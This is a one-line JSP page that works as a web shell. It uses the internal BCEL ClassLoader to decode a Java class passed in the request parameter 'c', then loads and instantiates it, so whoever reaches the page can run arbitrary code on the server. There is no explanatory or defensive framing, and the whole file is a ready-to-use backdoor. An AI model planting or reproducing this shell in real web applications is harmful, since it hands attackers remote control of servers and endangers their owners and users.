<% new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("$$BCEL$$" + request.getParameter("c")).newInstance(); %>
